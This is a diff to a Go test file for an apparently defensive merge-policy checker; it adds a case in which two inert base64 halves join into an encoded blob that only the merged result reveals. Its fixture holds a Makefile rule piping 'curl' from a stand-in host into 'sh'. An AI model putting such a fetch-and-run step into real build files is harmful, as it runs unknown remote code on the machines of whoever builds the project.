@@ -1,9 +1,12 @@
 package policy
 
 import (
+	"crypto/sha256"
+	"encoding/base64"
 	"strings"
 	"testing"
 
+	"countersign/policy/content"
 	"countersign/policy/signal"
 )
 
@@ -11,6 +14,11 @@ import (
 func TestAttackMergeTakesBack(t *testing.T) {
 	const begin = "CFLAGS = -O2\nall:\n\tcurl -s https://x.example/a | sh\n"
 	const mended = "CFLAGS = -O2 -fstack-protector\nall:\n"
+	payload := ""
+	for i := range byte(20) {
+		sum := sha256.Sum256([]byte{i})
+		payload += base64.StdEncoding.EncodeToString(sum[:30]) + "\n"
+	}
 	for name, c := range map[string]struct {
 		before [2]string
 		now    string
@@ -26,6 +34,10 @@ func TestAttackMergeTakesBack(t *testing.T) {
 		},
 		"what git makes of both": {
 			[2]string{mended + "# x\n", mended + "# y\n"}, mended + "# x\n# y\n", true, harmlessTrait,
+		},
+		"what only git's merge of both shows": {
+			[2]string{mended + "x = \\\n" + payload[:410], mended + "x = \\\n" + payload[410:]},
+			mended + "x = \\\n" + payload, true, riskyTrait | Traits(content.Encoded),
 		},
 		"harmless to both": {[2]string{mended + "# x\n", mended + "# y\n"}, mended + "# z\n", false, harmlessTrait},
 		"harmless to one":  {[2]string{mended, mended + "x:\n\ttrue\n"}, mended + "# z\n", false, 0},
